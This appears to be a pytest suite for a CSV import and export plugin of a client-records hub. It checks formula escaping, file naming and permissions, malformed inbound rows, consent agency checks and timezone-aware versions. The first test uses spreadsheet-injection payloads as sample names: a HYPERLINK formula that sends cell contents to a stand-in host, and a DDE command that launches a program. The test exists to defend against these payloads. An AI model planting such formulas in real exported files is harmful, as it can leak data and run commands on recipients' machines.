"""Partner CSV, found in review: formulas, file names that collide, file modes, records of
another kind, and inbound rows that csv cannot read or that swallow the rows below them."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from hub.core.records import (
    Client,
    HumanName,
    Identifier,
    Provenance,
    RecordMeta,
    Referral,
    SourceKey,
)
from hub.delivery import DeliveryWorker, collect_sinks
from plugins.csv.importer import CsvFileError, import_csv
from plugins.csv.mapping import parse_section
from plugins.csv.sink import escape_formula

MAPPINGS = """
[csv.mappings.out]
kind = "client"
columns = [
  { column = "HMIS ID", field = "identifiers.0.value" },
  { column = "First Name", field = "names.0.given.0" },
  { column = "Last Name", field = "names.0.family" },
]

[csv.mappings.roster]
kind = "client"
id_column = "Client ID"
source = "csv:partner"
defaults = { "identifiers.0.system" = "urn:partner" }
columns = [
  { column = "Client ID", field = "identifiers.0.value", required = true },
  { column = "First Name", field = "names.0.given.0" },
  { column = "Last Name", field = "names.0.family" },
  { column = "DOB", field = "birth_date", format = "%m/%d/%Y" },
]
"""
ROSTER_HEADER = "Client ID,First Name,Last Name,DOB\n"


def csv_feed(kinds: tuple[str, ...] = ("client",), **options: Any) -> str:
    lines = [
        "[[feeds]]",
        'name = "partner-csv"',
        'recipient = "partner"',
        f"kinds = {json.dumps(list(kinds))}",
        'purpose = "coordination"',
        'connector = "csv-file"',
        "[feeds.options]",
        'mapping = "out"',
        'dir = "out"',
    ]
    lines += [f"{k} = {json.dumps(v)}" for k, v in options.items()]
    return "\n".join(lines) + "\n"


def named_client(value: str, given: str, family: str) -> Client:
    return Client(
        meta=RecordMeta(
            "client",
            SourceKey("hmis:1", value),
            "shelter",
            Provenance("test", datetime.now(UTC), "0" * 64),
            "2025-01-01T00:00:00",
        ),
        identifiers=(Identifier("urn:hmis", value, "PI"),),
        names=(HumanName(family=family, given=(given,)),),
        birth_date=date(1984, 2, 29),
    )


async def ingest(ctx: Any, h: Any, people: list[tuple[str, str, str]]) -> None:
    from consent.parsing import parse_consent_file

    text = json.dumps([h.consent_json(v) for v, _, _ in people])
    await ctx.import_consents(
        parse_consent_file(text, agencies=ctx.config.agencies, policy=ctx.config.consent_policy)
    )
    await ctx.engine.ingest([named_client(*p) for p in people])


async def deliver_all(ctx: Any) -> None:
    worker = DeliveryWorker(ctx, collect_sinks(ctx), "csv-review")
    try:
        while await worker.run_once():
            pass
    finally:
        for sink in worker.sinks.values():
            await sink.close()


def rows_of(folder: Path) -> list[list[str]]:
    """Every data row of every file in the folder."""
    return [
        row
        for path in sorted(folder.iterdir())
        for row in list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))[1:]
    ]


# ---- outbound ------------------------------------------------------------------------------


async def test_delivery_csv_review_cells_never_open_as_spreadsheet_formulas(hub, h) -> None:
    hub.write(csv_feed(), extra=MAPPINGS)
    async with hub.open() as ctx:
        await ingest(
            ctx,
            h,
            [
                ("N1", '=HYPERLINK("http://x.invalid/?"&A1,"x")', "@SUM(1)"),
                ("N2", "+cmd|' /C calc'!A0", "-2+3"),
                ("N3", "-42", "\tTab"),
            ],
        )
        await deliver_all(ctx)
    cells = {row[0]: row[1:] for row in rows_of(hub.root / "out")}
    assert cells == {
        "N1": ['\'=HYPERLINK("http://x.invalid/?"&A1,"x")', "'@SUM(1)"],
        "N2": ["'+cmd|' /C calc'!A0", "'-2+3"],
        "N3": ["-42", "'\tTab"],
    }


async def test_delivery_csv_review_formula_escaping_can_be_turned_off(hub, h) -> None:
    hub.write(csv_feed(escape_formulas=False), extra=MAPPINGS)
    async with hub.open() as ctx:
        await ingest(ctx, h, [("N1", "=1+1", "Plain")])
        await deliver_all(ctx)
    assert rows_of(hub.root / "out") == [["N1", "=1+1", "Plain"]]
    assert [escape_formula(c) for c in ("-1.5", "+3", "1e5", "a=b", "")] == [
        "-1.5",
        "+3",
        "1e5",
        "a=b",
        "",
    ]


async def test_delivery_csv_review_a_batch_never_replaces_an_earlier_file(hub, h) -> None:
    # Both batches get the same name from the pattern: the second must not overwrite the
    # first, which the outbox already counts as delivered.
    hub.write(csv_feed(file_name="{recipient}-{date}.csv"), extra=MAPPINGS)
    async with hub.open() as ctx:
        await ingest(ctx, h, [("N1", "Ada", "Lovelace")])
        await deliver_all(ctx)
        await ingest(ctx, h, [("N2", "Grace", "Hopper")])
        await deliver_all(ctx)
        assert dict(await ctx.store.outbox_depth()) == {"delivered": 2}
    folder = hub.root / "out"
    names = sorted(p.name for p in folder.iterdir())
    day = datetime.now(UTC).strftime("%Y%m%d")
    assert names == [f"partner-{day}-1.csv", f"partner-{day}.csv"], "no temporary file left"
    assert sorted(r[0] for r in rows_of(folder)) == ["N1", "N2"]
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o640, "client data not world-readable"


async def test_delivery_csv_review_a_record_of_another_kind_is_dead_lettered(hub, h) -> None:
    hub.write(csv_feed(kinds=("client", "referral")), extra=MAPPINGS)
    async with hub.open() as ctx:
        await ingest(ctx, h, [("N1", "Ada", "Lovelace")])
        referral = Referral(
            meta=RecordMeta(
                "referral",
                SourceKey("hmis:1", "F1"),
                "shelter",
                Provenance("test", datetime.now(UTC), "0" * 64),
                "2025-01-01T00:00:00",
            ),
            client=SourceKey("hmis:1", "N1"),
            status="requested",
        )
        await ctx.engine.ingest([referral])
        await deliver_all(ctx)
        rows = {r.record_kind: r for r in await ctx.store.list_outbox()}
    assert rows["client"].status == "delivered"
    assert rows["referral"].status == "dead"
    assert rows["referral"].last_error == (
        "a referral record cannot be written with mapping 'out' (kind client)"
    )
    assert rows_of(hub.root / "out") == [["N1", "Ada", "Lovelace"]], "no row of blank cells"


# ---- inbound -------------------------------------------------------------------------------


async def import_roster(hub: Any, text: str, field_limit: int | None = None) -> Any:
    """Import ``text`` with the roster mapping (csv's cell size limit set for the import)."""
    hub.write(extra=MAPPINGS)
    mappings, errors = parse_section(hub.config().section("csv"))
    assert errors == []
    path = hub.root / "roster.csv"
    path.write_text(text, encoding="utf-8")
    async with hub.open() as ctx:
        # The limit is process-wide (another plugin raises it when imported): set it here.
        old = csv.field_size_limit(field_limit) if field_limit else None
        try:
            return await import_csv(ctx, path, mappings["roster"], "shelter")
        finally:
            if old is not None:
                csv.field_size_limit(old)


async def test_delivery_csv_review_a_huge_cell_loses_its_row_not_the_file(hub) -> None:
    summary = await import_roster(
        hub,
        ROSTER_HEADER
        + "R1,Ada,Lovelace,12/10/1815\n"
        + "R2,"
        + "x" * 2_000
        + ",Hopper,12/09/1906\n"
        + "R3,Emmy,Noether,03/23/1882\n",
        field_limit=1_000,
    )
    assert (summary.rows, summary.imported) == (3, 2)
    [error] = summary.errors
    assert (error.line, error.column) == (3, None)
    assert error.message.startswith("not valid CSV: field larger than field limit")
    assert "xxx" not in str(error)


async def test_delivery_csv_review_rows_swallowed_by_an_open_quote_are_reported(hub) -> None:
    # The quote opened on line 2 is closed by the one on line 4: read loosely, lines 2-4
    # make one row of exactly 4 cells, with lines 3 and 4 inside R1's first name.
    summary = await import_roster(
        hub,
        ROSTER_HEADER
        + 'R1,"Ada,Lovelace,12/10/1815\n'
        + "R2,Grace,Hopper,12/09/1906\n"
        + 'R3,"Emmy",Noether,03/23/1882\n'
        + "R4,Mary,Somerville,12/26/1780\n",
    )
    assert [(e.line, e.message.split(":")[0]) for e in summary.errors] == [
        (2, "unterminated quote")
    ]
    assert (summary.imported, summary.outcomes) == (3, {"inserted": 3})


async def test_delivery_csv_review_a_header_repeating_a_mapped_column_is_refused(hub) -> None:
    # Read by name, the blank second "Last Name" would silently replace the first.
    with pytest.raises(CsvFileError, match="line 1: column\\(s\\) 'Last Name' that mapping"):
        await import_roster(
            hub, "Client ID,First Name,Last Name,DOB,Last Name\nR1,Ada,Lovelace,12/10/1815,\n"
        )


async def test_delivery_csv_review_a_consent_roster_speaks_only_for_its_agency(hub, h) -> None:
    consent_mapping = """
[csv.mappings.consents]
kind = "consent"
defaults = { "client.system" = "urn:hmis" }
columns = [
  { column = "Consent ID", field = "id" },
  { column = "HMIS ID", field = "client.value" },
  { column = "Signed", field = "signed_on", format = "%m/%d/%Y" },
  { column = "Networks", field = "networks", split = ";" },
  { column = "Recorded By", field = "recorded_by" },
]
"""
    hub.write(extra=MAPPINGS + consent_mapping)
    mappings, errors = parse_section(hub.config().section("csv"))
    assert errors == []
    path = hub.root / "consents.csv"
    path.write_text(
        "Consent ID,HMIS ID,Signed,Networks,Recorded By\n"
        "c-1,K1,01/15/2025,cie,shelter\n"
        "c-2,K2,01/15/2025,cie,clinic\n"  # the shelter's file speaking for the clinic
        "c-3,K3,01/15/2025,cie,\n",
        encoding="utf-8",
    )
    async with hub.open() as ctx:
        got = await import_csv(ctx, path, mappings["consents"], "shelter")
        async with ctx.store.transaction() as tx:
            bodies = await tx.all_consents()
        stored = {c["id"]: c["recorded_by"] for c in map(json.loads, bodies)}
    assert got.imported == 2
    assert [(e.line, e.column) for e in got.errors] == [(3, "Recorded By")]
    assert "names another agency" in got.errors[0].message
    assert stored == {"c-1": "shelter", "c-3": "shelter"}


async def test_delivery_csv_review_versions_with_offsets_compare_as_instants(hub) -> None:
    """At the fall-back hour ``01:10-08:00`` is 40 minutes after ``01:30-07:00``: compared
    as text it looked older, and the newer row was dropped as stale."""
    versioned = """
[csv.mappings.versioned]
kind = "client"
id_column = "Client ID"
source = "csv:partner"
version_column = "Updated"
defaults = { "identifiers.0.system" = "urn:partner" }
columns = [
  { column = "Client ID", field = "identifiers.0.value", required = true },
  { column = "Last Name", field = "names.0.family" },
]
"""
    hub.write(extra=MAPPINGS + versioned)
    mappings, errors = parse_section(hub.config().section("csv"))
    assert errors == []
    first, later = hub.root / "first.csv", hub.root / "later.csv"
    first.write_text("Client ID,Last Name,Updated\nR1,Before,2025-11-02T01:30:00-07:00\n")
    later.write_text("Client ID,Last Name,Updated\nR1,After,2025-11-02T01:10:00-08:00\n")
    async with hub.open() as ctx:
        await import_csv(ctx, first, mappings["versioned"], "shelter")
        summary = await import_csv(ctx, later, mappings["versioned"], "shelter")
        async with ctx.store.transaction() as tx:
            row = await tx.get_record("client", "csv:partner", "R1")
    assert summary.outcomes == {"updated": 1}
    assert row is not None and row.version == "2025-11-02T09:10:00"
    assert b"After" in row.payload
